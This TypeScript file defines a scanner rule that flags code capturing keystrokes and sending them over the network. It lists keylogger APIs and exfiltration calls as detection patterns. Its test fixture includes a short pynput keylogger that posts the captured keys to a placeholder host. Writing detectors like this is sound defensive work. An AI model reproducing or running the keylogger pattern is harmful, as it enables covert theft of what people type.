/** EX-02: programs that record what a person types and send it. */
import { inFile } from '../../engine/example.ts';
import { chars, code, oneOf, pattern, seq, times, word } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';

const keys = oneOf(
  seq('pynput', times(0, 400, chars('\\s\\S')), 'keyboard.Listener'),
  code('keyboard.on_press('),
  code('keyboard.hook('),
  'SetWindowsHookEx',
  'GetAsyncKeyState',
  word('(iohook|uiohook-napi|node-global-key-listener)'),
);

/** Rows of EX-02. */
export const sentKeys: readonly Row[] = [
  row('what a person types in any program is sent away', {
    in: ['script', 'decoded'],
    within: 'block',
    match: pattern(keys),
    and: [
      pattern(
        oneOf(
          code('requests.post('),
          code('urlopen('),
          code('httpx.post('),
          seq(code('fetch('), times(0, 200, chars('\\s\\S')), 'POST'),
          code('axios.post('),
          code('.sendall('),
          code('smtplib.'),
          'Invoke-(RestMethod|WebRequest)',
          'UploadString',
          code('.sendMessage('),
        ),
      ),
    ],
    severity: 'critical',
    catches: [
      inFile(
        'scripts/a.py',
        'from pynput import keyboard',
        'keyboard.Listener(on_press=buf.append).start()',
        'requests.post("http://in.invalid", data=str(buf))',
      ),
    ],
    spares: [
      inFile('scripts/a.py', 'from pynput import keyboard', 'keyboard.Listener(on_press=count).start()'),
    ],
  }),
];
